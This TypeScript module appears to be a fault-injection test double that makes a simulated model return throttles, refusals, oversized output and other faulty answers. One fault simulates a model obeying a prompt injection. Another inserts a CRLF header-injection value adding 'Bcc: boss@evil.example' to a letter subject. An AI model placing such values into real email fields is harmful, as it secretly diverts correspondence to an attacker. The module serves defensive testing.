import * as z from 'zod/mini'
import type { LetterAnswer } from '#core/writing/prompt/letter-answer.ts'
import { answerInGerman, answerLikeAModel, answerLikeAVictim } from './model.ts'

export const FaultKind = z.enum([
  'throttle', 'internal', 'timeout', 'drop', 'truncated', 'empty', 'refusal', 'huge', 'obeys_injection', 'wrong_language', 'subject_newline',
])
export type FaultKind = z.infer<typeof FaultKind>

export const FaultRequest = z.union([
  z.object({ kind: FaultKind, times: z._default(z.number().check(z.int(), z.gte(1)), 1) }),
  z.object({ clear: z.literal(true) }),
])
export type FaultRequest = z.infer<typeof FaultRequest>

/** What the model says in a call, whatever the wire looks like. */
export interface ModelTurn {
  readonly kind: 'letter' | 'truncated' | 'empty' | 'refusal'
  readonly answer: LetterAnswer | null
}

const HUGE_BYTES = 200 * 1024

/** The turn of a healthy model or of one with a fault of what it says; faults of the wire are not its business. */
export async function takeTurn(fault: FaultKind | null, prompt: { system: string; user: string }, seed: string): Promise<ModelTurn> {
  if (fault === 'truncated' || fault === 'empty' || fault === 'refusal') return { kind: fault, answer: null }
  if (fault === 'obeys_injection') return { kind: 'letter', answer: await answerLikeAVictim(prompt.user, prompt.system, seed) }
  if (fault === 'wrong_language') return { kind: 'letter', answer: answerInGerman(prompt.user) }
  const answer = await answerLikeAModel(prompt.user, seed)
  if (fault === 'huge') {
    const padding = { text: 'And so on. '.repeat(HUGE_BYTES / 11), sources: [{ kind: 'opinion' as const, quote: '' }] }
    return { kind: 'letter', answer: { ...answer, paragraphs: [...answer.paragraphs, { sentences: [padding] }] } }
  }
  if (fault === 'subject_newline') return { kind: 'letter', answer: { ...answer, subject: `${answer.subject}\r\nBcc: boss@evil.example` } }
  return { kind: 'letter', answer }
}
